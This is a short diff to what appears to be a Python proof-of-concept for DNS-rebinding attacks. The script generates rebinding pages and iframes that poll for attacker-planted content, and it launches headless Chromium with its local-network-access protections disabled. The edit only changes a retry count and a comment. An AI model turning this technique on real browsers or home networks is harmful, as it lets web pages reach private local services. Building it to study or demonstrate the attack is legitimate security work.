@@ -58,7 +58,7 @@ FRAMES = "<html><body>" + "".join(f'<iframe src="http://{name}:{PORT}/rebind.htm
 REBIND = f"""<html><body><script>{SCRIPT}
 (async () => {{
   await say('loaded', '');
-  await read_own(25, (text) => text.includes("the attacker's") || text.startsWith('error'));
+  await read_own(20, (text) => text.includes("the attacker's") || text.startsWith('error'));
   await say('done', '');
 }})();
 </script></body></html>"""
@@ -73,8 +73,8 @@ CROSS = f"""<html><body><script>{SCRIPT}
 </script></body></html>"""
 OWN = f"<html><body><script>{SCRIPT}\n(async () => {{ await read_own(1, () => false); await say('done', ''); }})();</script></body></html>"
 
-# Chromium itself asks the user, by now, before a public page may ask a local address. Other browsers do not, users say yes, and a page that a proxy or
-# a tunnel handed over does not count as public: the attack is shown as it is without that.
+# Chromium itself asks the user, by now, before a public page may reach a local address; headless, it refuses. Other browsers do not, users say yes, and
+# a page that a proxy or a tunnel handed over does not count as public: the attacks are shown as they are without that.
 FEATURES = "LocalNetworkAccessChecks,LocalNetworkAccessChecksWebSockets,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights"
 BROWSER = ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync", "--disable-background-networking",
            "--disable-component-update", "--disable-dev-shm-usage", f"--disable-features={FEATURES}"]
